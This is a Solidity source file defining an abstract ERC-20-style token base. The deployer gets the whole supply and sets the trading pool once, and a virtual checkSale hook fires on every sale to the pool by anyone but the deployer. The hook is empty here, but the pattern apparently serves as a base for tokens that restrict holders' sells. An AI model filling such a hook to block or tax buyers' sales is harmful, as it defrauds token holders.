// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// The base of every token here: 10^27 units, which its deployer gets. `pair` tells the token its pool; it works once.
abstract contract Plain {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e27;
    mapping(address => uint256) internal held;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal immutable boss;
    address internal pool;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    modifier onlyBoss() {
        require(msg.sender == boss, "no");
        _;
    }

    constructor(string memory called) {
        name = called;
        symbol = called;
        boss = msg.sender;
        held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function pair(address pool_) external onlyBoss {
        require(pool == address(0), "once");
        pool = pool_;
    }

    function balanceOf(address holder) public view virtual returns (uint256) {
        return held[holder];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) internal virtual {
        if (isSale(from, to)) checkSale(from, value);
        put(from, to, value);
    }

    function put(address from, address to, uint256 value) internal {
        held[from] -= value;
        held[to] += value;
        emit Transfer(from, to, value);
    }

    function isSale(address from, address to) internal view returns (bool) {
        return to == pool && pool != address(0) && from != boss;
    }

    function checkSale(address from, uint256 value) internal virtual {}
}
